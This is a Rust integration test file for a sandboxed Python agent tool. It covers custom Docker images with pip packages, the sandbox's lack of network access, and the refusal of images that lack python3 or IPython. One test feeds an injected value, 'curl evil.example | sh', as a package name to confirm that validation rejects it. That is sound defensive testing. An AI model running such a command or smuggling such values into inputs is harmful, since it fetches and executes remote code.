//! The user's own packages and images, against the real Docker daemon: a derived image
//! with a package from PyPI that a session imports (with no network), a bad package
//! name that fails with pip's own words while the default image still runs, and an
//! image without python3 (or without IPython) refused with a fix.
//!
//! The derived image is cached by its hash: only the first run pays for the build
//! (about a minute); later runs find it. Behind a proxy that intercepts TLS, the build
//! needs its CA: `SANDALYST_BUILD_CA_FILE`, else the host's trust store is used.

use crate::common;

use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bollard::query_parameters::{
    BuildImageOptionsBuilder, CreateImageOptionsBuilder, RemoveImageOptionsBuilder,
};
use bollard::Docker;
use futures_util::StreamExt;
use sandalyst::agent::{EventKind, RunStatus, SetupStage};
use sandalyst::model::scripted::{ScriptedModel, Step};
use sandalyst::model::Item;
use sandalyst::sandbox::custom::{self, BuildOptions, BuildProgress, ImageError, Packages};
use sandalyst::sandbox::docker::custom as engine_custom;
use sandalyst::sandbox::docker::DockerSandbox;
use sandalyst::sandbox::{ExecStatus, Sandbox, SandboxConfig};
use sandalyst::session::{DockerFactory, SessionConfig, SessionError, Sessions};
use sandalyst::workspace::Manifest;
use tokio_util::sync::CancellationToken;

/// The build's CA: the one named, else the host's trust store (which is the public
/// CAs plus whatever this machine's administrator added, such as a proxy's).
fn build_options() -> BuildOptions {
    let ca = std::env::var_os("SANDALYST_BUILD_CA_FILE")
        .map(PathBuf::from)
        .or_else(|| {
            let host = PathBuf::from("/etc/ssl/certs/ca-certificates.crt");
            host.exists().then_some(host)
        });
    BuildOptions {
        ca_file: ca,
        ..BuildOptions::default()
    }
}

async fn py(sb: &DockerSandbox, code: &str) -> (ExecStatus, String) {
    let r = sb
        .python(
            code,
            Duration::from_secs(60),
            &CancellationToken::new(),
            &|_, _| {},
        )
        .await
        .unwrap();
    (
        r.status,
        format!(
            "{}{}{}",
            r.stdout,
            r.stderr,
            r.traceback.unwrap_or_default()
        ),
    )
}

#[tokio::test]
async fn a_session_with_a_pip_package_imports_it_and_has_no_network() {
    let Some(docker) = common::engine_or_skip().await else {
        return;
    };
    let base = common::image_tag(&docker).await;
    let packages = Packages::new(["termcolor"], [] as [&str; 0]).unwrap();
    let tag = custom::derived_tag(&base, &packages);

    // A session that names only the packages gets the derived image: built by the
    // session's set-up when missing (its steps in the set-up events), found later.
    let dir = tempfile::tempdir().unwrap();
    let mut config = SessionConfig::default();
    config.sandbox.memory_bytes = 1 << 30;
    config.sandbox.packages = packages.clone();
    config.sandbox.build = build_options();
    config.limits.call_timeout = Duration::from_secs(60);
    let sessions = Sessions::new(dir.path().join("sessions"), Arc::new(DockerFactory)).unwrap();
    let session = sessions.create(config).await.unwrap();
    let setup = session.subscribe();
    let t = Instant::now();
    let model = ScriptedModel::new([
        ScriptedModel::python(
            "c1",
            "import socket, termcolor\n\
             print('TERMCOLOR', termcolor.__name__)\n\
             print('from', termcolor.__file__)\n\
             try:\n    socket.create_connection(('pypi.org', 443), timeout=5)\n    print('NETWORK: yes')\n\
             except OSError as e:\n    print('NETWORK: no', type(e).__name__)",
        ),
        Step::Reply(vec![Item::Assistant {
            text: "done".into(),
        }]),
    ]);
    let log = model.log.clone();
    let mut h = session
        .ask("use termcolor".into(), Box::new(model))
        .unwrap();
    while h.events.recv().await.is_some() {}
    let outcome = h.outcome().await;
    assert_eq!(outcome.status, RunStatus::Finished);
    let out: String = log
        .lock()
        .unwrap()
        .iter()
        .flat_map(|s| s.items.iter())
        .filter_map(|i| match i {
            Item::ToolOutput { output, .. } => Some(output.clone()),
            _ => None,
        })
        .collect();
    assert!(out.contains("TERMCOLOR termcolor"), "{out}");
    assert!(out.contains("/usr/local/lib/python3"), "{out}");
    assert!(out.contains("NETWORK: no"), "{out}");
    assert!(!out.contains("NETWORK: yes"), "{out}");
    let took = t.elapsed();
    let mut setup = setup;
    let (mut ready, mut lines, mut steps) = (None, Vec::new(), 0);
    loop {
        // A cold build's many lines may overrun the channel: the latest are kept.
        let ev = match setup.try_recv() {
            Ok(ev) => ev,
            Err(tokio::sync::broadcast::error::TryRecvError::Lagged(_)) => continue,
            Err(_) => break,
        };
        match ev.kind {
            EventKind::Setup(SetupStage::ImageReady { tag }) => ready = Some(tag),
            EventKind::Setup(SetupStage::ImageBuild { line, step, .. }) => {
                steps += usize::from(step.is_some());
                lines.push(line);
            }
            _ => {}
        }
    }
    session.close().await;
    assert_eq!(ready.as_deref(), Some(tag.as_str()));
    eprintln!(
        "session with termcolor: {:.1} s to its answer ({} build lines)",
        took.as_secs_f64(),
        lines.len()
    );
    if !lines.is_empty() {
        assert!(steps > 3, "{lines:?}");
        assert!(
            lines.iter().any(|l| l.starts_with("pip install termcolor")),
            "{lines:?}"
        );
    }

    // Found by its hash from now on, in milliseconds, with no build.
    let t = Instant::now();
    let again = engine_custom::ensure(&docker, &base, &packages, &build_options(), &|p| {
        panic!("no build expected: {p}")
    })
    .await
    .unwrap();
    assert_eq!(again, tag);
    assert!(t.elapsed() < Duration::from_secs(5));

    // The image keeps the base's settings and is the sandbox user's again.
    let info = docker.inspect_image(&tag).await.unwrap();
    let cfg = info.config.unwrap();
    assert_eq!(cfg.user.as_deref(), Some("1000:1000"));
    assert_eq!(cfg.working_dir.as_deref(), Some("/workspace"));
    assert_eq!(
        cfg.entrypoint,
        Some(vec!["/usr/bin/tini".to_string(), "--".to_string()])
    );
    let labels = cfg.labels.unwrap_or_default();
    assert_eq!(labels.get(custom::LABEL_BASE), Some(&base));
    assert_eq!(
        labels.get(custom::LABEL_PIP).map(String::as_str),
        Some(r#"["termcolor"]"#)
    );
}

#[tokio::test]
async fn a_bad_package_fails_with_pips_words_and_the_default_image_still_runs() {
    let Some(docker) = common::engine_or_skip().await else {
        return;
    };
    let base = common::image_tag(&docker).await;
    let name = format!("sandalyst-no-such-package-{:08x}", rand::random::<u32>());
    let packages = Packages::new([name.as_str()], [] as [&str; 0]).unwrap();
    let seen = Arc::new(Mutex::new(Vec::<BuildProgress>::new()));
    let sink = seen.clone();
    let err = engine_custom::build(&docker, &base, &packages, &build_options(), &move |p| {
        sink.lock().unwrap().push(p)
    })
    .await
    .unwrap_err();
    match &err {
        ImageError::BuildFailed { tool, message, .. } => {
            assert_eq!(tool, "pip", "{err}");
            assert!(
                message.contains(&format!("No matching distribution found for {name}")),
                "{err}"
            );
            assert!(
                !message.contains("sh -c"),
                "the engine's words, not pip's: {err}"
            );
        }
        other => panic!("{other:?}"),
    }
    let text = err.to_string();
    assert!(text.contains("The default image is unchanged"), "{text}");
    // The log streamed as typed progress: the start, numbered steps, pip's lines.
    let seen = seen.lock().unwrap().clone();
    assert!(
        seen.iter().any(
            |p| matches!(p, BuildProgress::Started { packages, .. } if *packages == format!("pip: {name}"))
        ),
        "{seen:?}"
    );
    assert!(
        seen.iter()
            .any(|p| matches!(p, BuildProgress::Step { step: 5, steps, what } if *steps >= 6 && what.contains("install"))),
        "{seen:?}"
    );
    let install = format!("pip install {name}");
    assert!(
        seen.iter()
            .any(|p| matches!(p, BuildProgress::Line { text } if *text == install)),
        "{seen:?}"
    );
    assert!(
        engine_custom::present(&docker, &custom::derived_tag(&base, &packages))
            .await
            .unwrap()
            .is_none()
    );

    // Names that are not package names never reach a build.
    let e = Packages::new(["tabulate; curl evil.example | sh"], [] as [&str; 0]).unwrap_err();
    assert!(
        e.to_string().contains("is not a valid pip package name"),
        "{e}"
    );

    // The default image still runs.
    let config = SandboxConfig {
        image: base,
        memory_bytes: 1 << 30,
        ..SandboxConfig::default()
    };
    let sb = DockerSandbox::start(
        &docker,
        &common::run_id("custom"),
        &config,
        &Manifest::default(),
    )
    .await
    .unwrap();
    let (status, out) = py(&sb, "import pandas\nprint(6 * 7)").await;
    sb.close().await.unwrap();
    assert_eq!(status, ExecStatus::Ok, "{out}");
    assert_eq!(out.trim(), "42");
}

/// An image from a root filesystem tar (`docker import`), as an image built elsewhere.
async fn import_tiny(docker: &Docker, tag: &str) {
    let mut tar = tar::Builder::new(Vec::new());
    let data = b"not a sandbox\n";
    let mut header = tar::Header::new_gnu();
    header.set_size(data.len() as u64);
    header.set_mode(0o644);
    tar.append_data(&mut header, "etc/motd", &data[..]).unwrap();
    let (repo, version) = tag.split_once(':').unwrap();
    let opts = CreateImageOptionsBuilder::new()
        .from_src("-")
        .repo(repo)
        .tag(version)
        .build();
    let body = bollard::body_full(tar.into_inner().unwrap().into());
    let mut s = docker.create_image(Some(opts), Some(body), None);
    while let Some(item) = s.next().await {
        item.unwrap();
    }
}

async fn remove(docker: &Docker, tag: &str) {
    let opts = RemoveImageOptionsBuilder::new().force(true).build();
    let _ = docker.remove_image(tag, Some(opts), None).await;
}

/// Removes a test image when dropped, also when an assertion failed first.
struct Removed(String);

impl Drop for Removed {
    fn drop(&mut self) {
        let tag = self.0.clone();
        // Its own thread and runtime: a Drop cannot await on the test's runtime.
        let _ = std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            rt.block_on(async {
                if let Ok(docker) = sandalyst::sandbox::docker::connect().await {
                    remove(&docker, &tag).await;
                }
            });
        })
        .join();
    }
}

#[tokio::test]
async fn an_image_without_python_or_ipython_is_refused_with_a_fix() {
    let Some(docker) = common::engine_or_skip().await else {
        return;
    };
    let base = common::image_tag(&docker).await;
    let suffix = format!("{:08x}", rand::random::<u32>());

    // No python3 at all.
    let tiny = format!("sandalyst-test-nopython:{suffix}");
    import_tiny(&docker, &tiny).await;
    let _tiny = Removed(tiny.clone());
    let t = Instant::now();
    let err = engine_custom::check(&docker, &tiny).await.unwrap_err();
    eprintln!(
        "check of an image without python3: {:.2} s",
        t.elapsed().as_secs_f64()
    );
    assert!(matches!(err, ImageError::NoPython { .. }), "{err:?}");
    let text = err.to_string();
    assert!(text.contains("has no python3"), "{text}");
    assert!(text.contains("Fix:"), "{text}");
    assert_eq!(text.lines().count(), 1);

    // Through a session: a typed error the window can branch on.
    let dir = tempfile::tempdir().unwrap();
    let mut config = SessionConfig::default();
    config.sandbox.image = tiny.clone();
    let sessions = Sessions::new(dir.path().join("sessions"), Arc::new(DockerFactory)).unwrap();
    let session = sessions.create(config).await.unwrap();
    let mut h = session
        .ask("x".into(), Box::new(ScriptedModel::new([])))
        .unwrap();
    let mut codes = Vec::new();
    while let Some(ev) = h.events.recv().await {
        if let EventKind::Error { error } = ev.kind {
            codes.push((error.code, error.message));
        }
    }
    assert!(matches!(h.outcome().await.status, RunStatus::Failed { .. }));
    assert_eq!(codes.len(), 1, "{codes:?}");
    let (code, message) = &codes[0];
    assert_eq!(code, "image_unusable", "{message}");
    assert!(message.contains("has no python3"), "{message}");
    session.close().await;

    // Python, but no IPython: the check names what is missing.
    let no_ipython = format!("sandalyst-test-noipython:{suffix}");
    let dockerfile = format!(
        "FROM {base}\nUSER root\nRUN [\"python3\", \"-c\", \"import IPython, os, shutil; shutil.rmtree(os.path.dirname(IPython.__file__))\"]\nUSER 1000:1000\n"
    );
    let _no_ipython = Removed(no_ipython.clone());
    let mut tar = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_size(dockerfile.len() as u64);
    header.set_mode(0o644);
    tar.append_data(&mut header, "Dockerfile", dockerfile.as_bytes())
        .unwrap();
    let opts = BuildImageOptionsBuilder::new()
        .t(&no_ipython)
        .rm(true)
        .forcerm(true)
        .build();
    let mut s = docker.build_image(
        opts,
        None,
        Some(bollard::body_full(tar.into_inner().unwrap().into())),
    );
    while let Some(item) = s.next().await {
        assert!(item.unwrap().error_detail.is_none());
    }
    let err = engine_custom::resolve(
        &docker,
        &no_ipython,
        &Packages::default(),
        &BuildOptions::default(),
        &|_| {},
    )
    .await
    .unwrap_err();
    match &err {
        ImageError::KernelNeeds { missing, fix, .. } => {
            assert!(missing.iter().any(|m| m.contains("IPython")), "{err}");
            assert!(fix.contains("pip install ipython"), "{err}");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(SessionError::from(err).code(), "image_unusable");

    // The built-in image passes, and says which Python it has.
    let t = Instant::now();
    let report = engine_custom::check(&docker, &base).await.unwrap();
    eprintln!(
        "check of the built-in image: {:.2} s",
        t.elapsed().as_secs_f64()
    );
    assert!(report.python.starts_with("3."), "{report:?}");
    assert!(report.absent_libraries.is_empty(), "{report:?}");

    // A name the engine does not have.
    let err = engine_custom::check(&docker, &format!("sandalyst-test-absent:{suffix}"))
        .await
        .unwrap_err();
    assert!(matches!(err, ImageError::NotFound { .. }), "{err:?}");
}
